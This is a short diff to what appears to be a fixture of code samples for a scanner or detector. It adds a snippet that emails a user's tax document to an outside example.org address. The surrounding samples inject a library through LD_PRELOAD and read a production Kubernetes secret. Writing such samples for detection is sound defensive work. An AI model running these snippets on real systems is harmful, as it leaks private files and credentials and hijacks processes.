@@ -525,6 +525,9 @@ os.environ['LD_PRELOAD'] = '/tmp/x.so'
 os.system('ls')
 """
 CLIENTS = r"""
+import yagmail
+yagmail.SMTP('a@example.org').send('b@example.org', 'hi', attachments=['/home/u/Documents/taxes.pdf'])
+---
 import kubernetes
 v1 = kubernetes.client.CoreV1Api()
 s = v1.read_namespaced_secret('db', 'prod')
